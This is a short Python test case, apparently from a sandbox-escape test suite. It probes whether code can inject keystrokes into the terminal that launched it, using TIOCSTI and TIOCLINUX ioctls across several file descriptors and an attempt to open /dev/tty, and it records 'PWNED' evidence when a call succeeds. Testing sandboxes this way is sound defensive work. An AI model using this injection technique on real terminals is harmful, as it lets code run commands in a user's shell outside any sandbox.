# attack: terminal_injection
# kind: effect   task: any   naive: run
# attempts: push keystrokes into the terminal that jurat was started from
import os

def evidence(found="yes"):
    said = f"PWNED terminal_injection {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/terminal_injection", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import fcntl

for fd in range(16):
    for code in (0x5412, 0x100005412, 0x541C):  # TIOCSTI, the same with a high bit, TIOCLINUX
        try:
            fcntl.ioctl(fd, code & 0xFFFFFFFF, b"\n")
            evidence(f"ioctl {code:#x} on {fd}")
        except OSError:
            pass
try:
    os.open("/dev/tty", os.O_RDWR)
    evidence("/dev/tty")
except OSError:
    pass
